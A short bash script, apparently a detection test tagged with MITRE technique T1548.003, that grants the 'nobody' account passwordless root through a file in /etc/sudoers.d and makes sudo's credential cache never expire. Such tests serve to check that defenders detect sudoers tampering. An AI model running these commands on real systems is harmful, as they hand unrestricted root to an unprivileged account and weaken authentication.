#!/bin/bash
# Give an account passwordless sudo through sudoers.d, and make sudo's credential cache never
# expire (timestamp_timeout=-1) so one sudo password entry lasts for good.
# technique: T1548.003
# expect: sudoers-change
set -eu
mkdir -p /etc/sudoers.d
echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-svc
chmod 440 /etc/sudoers.d/90-svc
touch /etc/sudoers
echo 'Defaults timestamp_timeout=-1' >> /etc/sudoers
